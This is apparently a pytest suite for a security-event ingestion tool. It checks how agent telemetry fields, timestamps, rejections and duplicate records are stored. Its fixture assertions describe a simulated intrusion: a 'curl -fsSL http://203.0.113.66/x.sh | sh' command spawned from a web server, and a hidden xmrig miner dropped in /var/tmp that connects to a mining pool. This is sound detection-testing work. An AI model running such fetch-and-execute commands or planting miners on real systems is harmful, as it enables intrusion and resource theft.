"""The agent envelope reader: each payload mapping, timestamps, rejections, idempotence."""

import json
from pathlib import Path
from typing import Any

import pytest

from kestrel.events import event_id
from kestrel.ingest import Source, ingest_paths
from kestrel.ingest.sniff import sniff
from kestrel.store import DuckDBStore, EventFilter


def _by_agent_id(store: DuckDBStore) -> dict[str, dict[str, Any]]:
    """Stored events keyed by the agent's own event_id (kept in raw)."""
    rows = store.events(EventFilter(source="agent")).to_pylist()
    return {json.loads(row["raw"])["event_id"]: row for row in rows}


@pytest.fixture
def events(fixtures: Path, store: DuckDBStore) -> dict[str, dict[str, Any]]:
    report = ingest_paths([fixtures / "agent" / "envelopes.jsonl"], store)
    assert report.by_format["agent"].stored == 8 and report.total().rejected == 0
    return _by_agent_id(store)


def test_process_start_maps_every_field(events: dict[str, dict[str, Any]]):
    e = events["e-1"]
    assert (e["class"], e["activity"], e["source"], e["source_event"]) == (
        "process", "create", "agent", "process")  # fmt: skip
    assert (e["process_pid"], e["parent_pid"]) == (4120, 2211)
    assert (e["process_name"], e["process_path"]) == ("sh", "/usr/bin/dash")
    assert e["process_cmdline"] == '/bin/sh -c "curl -fsSL http://203.0.113.66/x.sh | sh"'
    assert (e["parent_name"], e["parent_path"]) == ("gunicorn", "/usr/bin/python3.10")
    assert (e["user_name"], e["user_domain"]) == ("www-data", None)
    assert e["process_sha256"] == "ab12cd34" and e["file_sha256"] is None
    assert (e["host"], e["entity_type"], e["entity_id"]) == ("Web-01", "host", "web-01")
    assert e["agent_id"] == "AGENT-7"
    assert e["time"].isoformat() == "2024-05-01T13:41:07.250000+00:00"


def test_process_stop_string_cmdline_domain_user_and_agent_id_as_host(
    events: dict[str, dict[str, Any]],
):
    e = events["e-2"]
    assert e["activity"] == "terminate" and e["process_cmdline"] == "/bin/sh -c true"
    assert (e["user_domain"], e["user_name"]) == ("CORP", "svc-web")
    assert (e["host"], e["entity_id"]) == ("AGENT-7", "agent-7")
    assert e["time"].isoformat() == "2024-05-01T13:41:10+00:00"  # epoch seconds


def test_network_outbound_inbound_and_listen(events: dict[str, dict[str, Any]]):
    out, inbound, listen = events["e-3"], events["e-4"], events["e-5"]
    assert (out["class"], out["activity"], out["protocol"], out["direction"]) == (
        "network", "connect", "tcp", "outbound")  # fmt: skip
    assert (out["src_ip"], out["src_port"], out["dst_ip"], out["dst_port"]) == (
        "10.0.1.20", 50110, "198.51.100.23", 3333)  # fmt: skip
    assert (out["process_name"], out["process_path"], out["process_pid"]) == (
        "xmrig", "/var/tmp/.x/xmrig", 4131)  # fmt: skip
    assert (out["dst_hostname"], out["bytes_out"], out["bytes_in"]) == ("pool.example.net", 4096,
                                                                        None)  # fmt: skip
    assert out["time"].isoformat() == "2024-05-01T13:41:11.500000+00:00"  # epoch milliseconds
    assert (inbound["src_ip"], inbound["src_port"], inbound["dst_ip"], inbound["dst_port"]) == (
        "198.51.100.7", 51234, "10.0.1.20", 443)  # fmt: skip
    assert listen["activity"] == "listen" and listen["src_ip"] == "0.0.0.0"


def test_file_create_and_move(events: dict[str, dict[str, Any]]):
    create, move = events["e-6"], events["e-7"]
    assert (create["class"], create["activity"]) == ("file", "create")
    assert (create["file_path"], create["file_name"]) == ("/var/tmp/.x/xmrig", "xmrig")
    assert create["file_sha256"] == "ef56" and create["process_sha256"] is None
    assert (create["process_pid"], create["process_name"]) == (4125, "curl")
    assert move["activity"] == "rename" and move["file_name"] == "upd.exe"
    assert move["file_path"] == "C:\\Users\\bob\\AppData\\Local\\Temp\\upd.exe"


def test_system_inventory_and_offset_time(events: dict[str, dict[str, Any]]):
    e = events["e-8"]
    assert (e["class"], e["activity"], e["host"]) == ("system", "inventory", "web-01")
    assert e["time"].isoformat() == "2024-05-01T11:00:00+00:00"
    assert json.loads(e["raw"])["payload"]["os_version"] == "Ubuntu 22.04.4 LTS"


def test_event_id_hashes_the_canonical_envelope(events: dict[str, dict[str, Any]]):
    e = events["e-1"]
    assert e["event_id"] == event_id("agent", e["raw"].encode())


def test_bad_envelopes_rejected_with_position_good_ones_kept(fixtures: Path, store: DuckDBStore):
    report = ingest_paths([fixtures / "agent" / "bad.jsonl"], store)
    counts = report.by_format["agent"]
    assert (counts.read, counts.stored, counts.rejected) == (9, 2, 7)
    assert set(_by_agent_id(store)) == {"g-1", "g-9"}
    reasons = {r.position.line: r.reason for r in report.rejected}
    assert set(reasons) == {2, 3, 4, 5, 6, 7, 8}
    assert "$.payload.pid" in reasons[2] and "got `str`" in reasons[2]
    assert "Expected `object`" in reasons[3] and "$.payload" in reasons[3]
    assert "Invalid value 'registry'" in reasons[4] and "$.event_type" in reasons[4]
    assert "missing required field `action`" in reasons[5]
    assert reasons[6] == "unparseable time 'yesterday'"
    assert "malformed JSON" in reasons[7]
    assert "$.payload.remote_port" in reasons[8]
    assert all(r.position.record == r.position.line for r in report.rejected)


def test_resent_envelopes_are_one_event_in_any_container(
    fixtures: Path, tmp_path: Path, store: DuckDBStore
):
    path = fixtures / "agent" / "envelopes.jsonl"
    lines = path.read_text().splitlines()
    (tmp_path / "resent.jsonl").write_text("\n".join(lines[:3] + lines[:3]) + "\n")
    records = [json.loads(line) for line in lines]
    (tmp_path / "batch.json").write_text(json.dumps(records, indent=2))
    first = ingest_paths([path], store).total()
    again = ingest_paths([path, tmp_path], store).total()
    assert first.stored == 8
    assert (again.read, again.stored, again.duplicates) == (8 + 6 + 8, 0, 22)
    assert store.stats().total == 8


def test_sniffed_as_agent(fixtures: Path):
    path = fixtures / "agent" / "envelopes.jsonl"
    assert sniff(Source(str(path), lambda: path.open("rb"))) == "agent"


def test_first_line_not_utf8_is_rejected_alone_not_a_crash(tmp_path: Path, store: DuckDBStore):
    """The sniffer read the first line as JSON and raised on bytes that are not UTF-8 (a
    traceback from `kestrel ingest`); now the format is found from the quoted keys and the
    agent reader rejects that record alone."""
    good = b'{"agent_id":"a1","event_type":"process","timestamp":1714570867000,'
    bad = good + b'"payload":{"action":"start","pid":1,"name":"x\xff\xfe"}}\n'
    good += b'"payload":{"action":"start","pid":2,"name":"ok"}}\n'
    path = tmp_path / "mixed.jsonl"
    path.write_bytes(bad + good)
    assert sniff(Source(str(path), lambda: path.open("rb"))) == "agent"
    report = ingest_paths([path], store)
    total = report.total()
    assert (total.read, total.stored) == (2, 1)
    assert [r.position.line for r in report.rejected] == [1]
    assert "not UTF-8" in report.rejected[0].reason


def test_empty_source_gives_nothing(tmp_path: Path, store: DuckDBStore):
    path = tmp_path / "empty.jsonl"
    path.write_text("\n")
    assert ingest_paths([path], store, fmt="agent").total().read == 0
